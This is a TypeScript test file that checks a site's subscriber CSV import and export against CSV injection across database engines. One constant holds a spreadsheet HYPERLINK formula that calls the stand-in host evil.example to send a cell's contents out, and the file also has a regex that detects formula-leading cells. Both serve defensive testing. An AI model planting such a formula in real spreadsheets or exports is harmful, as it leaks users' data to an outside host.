import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { translate } from '../../core/site/messages.ts';
import { newsletterSubscribers } from '../../db/schema/index.ts';
import { createStaff, staffVisitor } from '../support/staff.ts';
import { ENGINES, startTestApp, type TestApp } from '../support/test-app.ts';
import { newVisitor, type TestVisitor } from '../support/visitor.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")@example.org';
/** A valid address under the sign-up rule: only the export's neutralisation protects it. */
const PLUS = '+1+cmd@example.org';

// The probe's first row: a formula imported as an address, or a guest's `+…` address, came out
// of the studio's CSV export as a live spreadsheet formula. Every CSV the studio writes goes
// through core/shared/csv.ts; the import takes the sign-up rule for addresses.
describe.each(ENGINES)('CSV injection on %s', (engine) => {
  let app: TestApp;
  let admin: TestVisitor;
  const t = (key: string) => translate(app.services.messages, key);
  const subscriber = (email: string) =>
    app.database.db
      .select({ email: newsletterSubscribers.email })
      .from(newsletterSubscribers)
      .where(eq(newsletterSubscribers.email, email));

  beforeAll(async () => {
    app = await startTestApp(engine, { seed: false, env: { RATE_LIMIT_SCALE: '100' } });
    admin = await staffVisitor(app, (await createStaff(app, 'admin')).idStaff);
  }, 180_000);
  afterAll(async () => {
    await app?.close();
  });

  it('refuses an imported address that is not an address', async () => {
    const csv = `email,consent\n"${FORMULA.replace(/"/g, '""')}",yes\n`;
    const response = await admin.post('/api/studio/subscribers/import', { csv, dry_run: false });
    expect(response.statusCode).toBe(422);
    expect(response.json()).toMatchObject({
      problems: [{ line: 2, message: t('studio_subscribers.import_errors.email') }],
    });
    expect(await subscriber(FORMULA.toLowerCase())).toHaveLength(0);
  });

  it("exports a guest's address that starts a formula as quoted text, and reads it back", async () => {
    const guest = await newVisitor(app);
    const subscribed = await guest.post('/api/auth/me/subscribe', {
      email: PLUS,
      token: await app.botCheckToken('subscribe_newsletter'),
    });
    expect(subscribed.statusCode, subscribed.body).toBe(200);
    await app.services.newsletter.subscribe('-dash@example.org');

    const exported = await admin.get('/api/studio/subscribers/export');
    expect(exported.statusCode).toBe(200);
    const rows = exported.body.trim().split('\n').slice(1);
    expect(rows.some((row) => row.startsWith(`"'${PLUS}",`))).toBe(true);
    expect(rows.some((row) => row.startsWith(`"'-dash@example.org",`))).toBe(true);
    // No cell of any row starts a formula, quoted or not.
    for (const row of rows) expect(row).not.toMatch(/(^|,)"?[=+\-@\t\r]/);

    // The studio's own export imported again names the same addresses.
    const again = await admin.post('/api/studio/subscribers/import', {
      csv: exported.body,
      dry_run: true,
    });
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toMatchObject({ counts: { unchanged: 2 } });
  });
});
